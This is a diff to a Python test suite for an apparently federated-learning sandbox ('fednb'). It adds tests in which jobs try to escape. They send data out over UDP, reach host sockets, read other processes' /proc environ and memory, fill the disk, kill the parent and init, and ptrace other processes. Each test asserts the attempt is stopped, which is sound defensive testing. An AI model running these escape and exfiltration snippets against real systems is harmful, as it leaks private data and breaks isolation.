@@ -4,8 +4,11 @@ keeps serving. Every job is approved by the owner first, as a careless owner wou
 from __future__ import annotations
 
 import os
+import socket
+import uuid
 from collections.abc import Iterator
 
+import httpx
 import numpy as np
 import pytest
 
@@ -52,8 +55,11 @@ def test_no_socket_reaches_the_domains_own_port(hospital: Hospital) -> None:
 
 
 @pytest.mark.parametrize("target", ["store.sqlite", "audit.key", "datasets/diabetes/private.zarr/.zmetadata",
-                                    "domain.json"])
+                                    "domain.json", "identity.key", "audit.head"])
 def test_domain_files_are_unreadable(hospital: Hospital, target: str) -> None:
+    assert hospital.dom.identity.public  # made on first use: the secure-aggregation secret key
+    assert (hospital.dom.home / target).is_file()
+
     @fednb.remote
     def read_file(data):
         import glob
@@ -201,6 +207,224 @@ def test_exception_text_reaches_only_the_owner(hospital: Hospital) -> None:
     assert_stopped(hospital, info, "exception")
     owner_view = hospital.owner().runs.get(info.id).info
     assert "SMUGGLED mean radius = 14.127292" in (owner_view.owner_log or "")
+
+
+def test_udp_reaches_neither_the_host_nor_the_internet(hospital: Hospital) -> None:
+    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    listener.bind(("127.0.0.1", 0))
+    listener.setblocking(False)
+
+    @fednb.remote(params={"port": (int, 1, 65535)})
+    def udp_out(data, port=1):
+        import socket
+
+        for addr in (("127.0.0.1", port), ("8.8.8.8", 53)):
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            s.settimeout(1)
+            try:
+                s.sendto(f"SMUGGLED {data.x.values[0, 0]}".encode(), addr)
+                return np.frombuffer(s.recvfrom(100)[0], dtype=np.uint8)
+            except OSError:
+                continue
+        raise ConnectionError("no UDP peer answered")
+
+    info = attempt(hospital, udp_out, port=listener.getsockname()[1])
+    assert_stopped(hospital, info, "exception")
+    with pytest.raises(BlockingIOError):  # not one datagram arrived
+        listener.recv(100)
+    listener.close()
+
+
+def test_a_unix_socket_of_the_host_is_out_of_reach(hospital: Hospital) -> None:
+    path = hospital.dom.home / "fednb-test.sock"
+    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    listener.bind(str(path))
+    listener.listen(1)
+    listener.setblocking(False)
+
+    @fednb.remote
+    def unix_home(data):
+        import glob
+        import socket
+
+        for path in [PATH, *glob.glob("/*/*.sock"), *glob.glob("/run/*.sock")]:  # noqa: F821
+            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            try:
+                s.connect(path)
+                s.sendall(b"SMUGGLED")
+                return np.asarray(1)
+            except OSError:
+                continue
+        raise ConnectionError("no unix socket reachable")
+
+    source = unix_home.source.replace("PATH", repr(str(path)))
+    assert_stopped(hospital, attempt(hospital, fednb.RemoteFunction(unix_home.fn, source=source)),
+                   "exception")
+    with pytest.raises(BlockingIOError):  # nobody connected
+        listener.accept()
+    listener.close()
+    path.unlink()
+
+
+def test_an_abstract_unix_socket_of_the_host_is_out_of_reach(hospital: Hospital) -> None:
+    name = f"fednb-test-{uuid.uuid4().hex}"
+    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    listener.bind("\0" + name)  # abstract sockets belong to the network namespace
+    listener.listen(1)
+    listener.setblocking(False)
+
+    @fednb.remote
+    def abstract_home(data):
+        import socket
+
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        s.connect("\0" + NAME)  # noqa: F821
+        s.sendall(b"SMUGGLED")
+        return np.asarray(1)
+
+    source = abstract_home.source.replace("NAME", repr(name))
+    assert_stopped(hospital, attempt(hospital, fednb.RemoteFunction(abstract_home.fn, source=source)),
+                   "exception")
+    with pytest.raises(BlockingIOError):
+        listener.accept()
+    listener.close()
+
+
+def test_proc_holds_no_other_process(hospital: Hospital) -> None:
+    @fednb.remote(params={"pid": (int, 1, 1 << 22)})
+    def other_processes(data, pid=1):
+        import os
+
+        others = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
+        for p in [*others, str(pid)]:
+            for leaf in ("environ", "cmdline", "root/etc/hostname", "mem"):
+                try:
+                    with open(f"/proc/{p}/{leaf}", "rb") as f:
+                        return np.frombuffer(f.read(64) or b"-", dtype=np.uint8)
+                except OSError:
+                    continue
+        raise ProcessLookupError(f"no other process in /proc: {others}")
+
+    assert_stopped(hospital, attempt(hospital, other_processes, pid=os.getpid()), "exception")
+
+
+@pytest.mark.parametrize("where", ["/job", "/tmp"])
+def test_filling_the_disk_stops_at_the_scratch_cap(hospital: Hospital, where: str) -> None:
+    @fednb.remote
+    def fill(data):
+        chunk = b"\0" * (16 << 20)
+        for i in range(1 << 16):  # 1 TiB in 64 MiB files, each under the file-size cap
+            with open(f"{WHERE}/fill{i}", "wb") as f:  # noqa: F821
+                for _ in range(4):
+                    f.write(chunk)
+        return np.asarray(1)
+
+    source = fill.source.replace("WHERE", repr(where))
+    info = attempt(hospital, fednb.RemoteFunction(fill.fn, source=source))
+    assert_stopped(hospital, info, "exception", "wall_clock")
+    work = hospital.dom.home / "work"
+    assert sum(p.stat().st_size for p in work.rglob("*") if p.is_file()) < 16 << 20  # nothing left on disk
+
+
+def test_exhausting_file_descriptors_stays_in_the_sandbox(hospital: Hospital) -> None:
+    @fednb.remote
+    def fds(data):
+        import builtins
+
+        builtins.KEEP = []  # held past the call, so the worker replies with none to spare
+        while True:
+            builtins.KEEP.append(open("/dev/null", "rb"))
+
+    assert_stopped(hospital, attempt(hospital, fds), "exception")
+
+
+def test_metrics_smuggle_nothing_past_their_bounds(hospital: Hospital) -> None:
+    @fednb.remote(metrics={"loss": (0.0, 1.0)})
+    def smuggle_metrics(data):
+        mean = float(data.x.values[:, 0].mean())
+        return fednb.Update(weights={"w": np.zeros(2)},
+                            metrics={"loss": mean * 1e6, f"radius_{mean:.6f}": mean, "accuracy": mean})
+
+    req = smuggle_metrics.request(hospital.alice(), "breast-cancer")
+    hospital.owner().requests.get(req.id).approve()
+    run = req.run()
+    info = run.wait(120)
+    assert info.status == "succeeded" and info.release_state == "held", info  # no DP: held
+    hospital.owner().runs.get(info.id).release()
+    assert run.result(60).metrics == {"loss": 1.0}  # clipped; undeclared metrics dropped
+    raw = httpx.get(f"{hospital.url}/api/v1/runs/{info.id}/result",
+                    headers={"Authorization": f"Bearer {hospital.alice_token}"}).content
+    assert b"14.127" not in raw and b"radius" not in raw and b"accuracy" not in raw
+
+
+@pytest.mark.parametrize(("result", "reason"), [
+    ('{"w": np.array([1.0, np.nan])}', "nonfinite_output"),
+    ('{"w": np.full(3, -np.inf, dtype=np.float16)}', "nonfinite_output"),
+    ('{"w": np.frombuffer(bytes.fromhex("010000000000f07f"), dtype=np.float64)}', "nonfinite_output"),
+    ('fednb.Update(weights={"w": np.zeros(2)}, metrics={"loss": float("nan")})', "nonfinite_output"),
+    ("np.zeros(3, dtype=np.complex128)", "invalid_output"),
+    ('np.array([f"{data.x.values[0, 0]}"])', "invalid_output"),
+], ids=["nan", "float16-inf", "signalling-nan", "nan-metric", "complex", "text"])
+def test_nonfinite_and_foreign_outputs_are_refused(hospital: Hospital, result: str, reason: str) -> None:
+    @fednb.remote(metrics={"loss": (0.0, 1.0)})
+    def odd_output(data):
+        return RESULT  # noqa: F821
+
+    source = odd_output.source.replace("RESULT", result)
+    fn = fednb.RemoteFunction(odd_output.fn, source=source, metrics={"loss": (0.0, 1.0)})
+    assert_stopped(hospital, attempt(hospital, fn), reason)
+
+
+def test_signals_reach_no_process_outside(hospital: Hospital) -> None:
+    @fednb.remote(params={"pid": (int, 1, 1 << 22)})
+    def kill_parent(data, pid=1):
+        import contextlib
+        import os
+        import signal
+
+        for target in (os.getppid(), 1, -1):  # its parent, its namespace's init, everyone
+            with contextlib.suppress(OSError):
+                os.kill(target, signal.SIGKILL)
+        os.kill(pid, signal.SIGKILL)  # the domain itself
+        return np.asarray(1)
+
+    assert_stopped(hospital, attempt(hospital, kill_parent, pid=os.getpid()), "exception")
+
+
+def test_fednb_domain_code_reaches_no_store(hospital: Hospital) -> None:
+    @fednb.remote
+    def open_store(data):
+        import glob
+
+        from fednb.domain import Domain
+
+        for home in [HOME, "/job", "/tmp", *glob.glob("/*"), *glob.glob("/*/*")]:  # noqa: F821
+            try:
+                return np.asarray(len(Domain.open(home).list_users()))
+            except Exception:
+                continue
+        raise LookupError("no domain home in reach")
+
+    source = open_store.source.replace("HOME", repr(str(hospital.dom.home)))
+    assert_stopped(hospital, attempt(hospital, fednb.RemoteFunction(open_store.fn, source=source)),
+                   "exception")
+
+
+def test_ptrace_attaches_to_nothing(hospital: Hospital) -> None:
+    @fednb.remote(params={"pid": (int, 1, 1 << 22)})
+    def attach(data, pid=1):
+        import ctypes
+        import os
+
+        libc = ctypes.CDLL(None, use_errno=True)
+        attach, seize = 16, 0x4206  # PTRACE_ATTACH, PTRACE_SEIZE
+        for target in {pid, os.getppid(), 1} - {os.getpid()}:  # the domain, the parent, init
+            for op in (attach, seize):
+                if libc.ptrace(op, target, 0, 0) == 0:
+                    return np.asarray(target)
+        raise PermissionError(ctypes.get_errno(), "ptrace refused")
+
+    assert_stopped(hospital, attempt(hospital, attach, pid=os.getpid()), "exception")
 
 
 def test_the_domain_still_runs_honest_code_afterwards(hospital: Hospital) -> None:
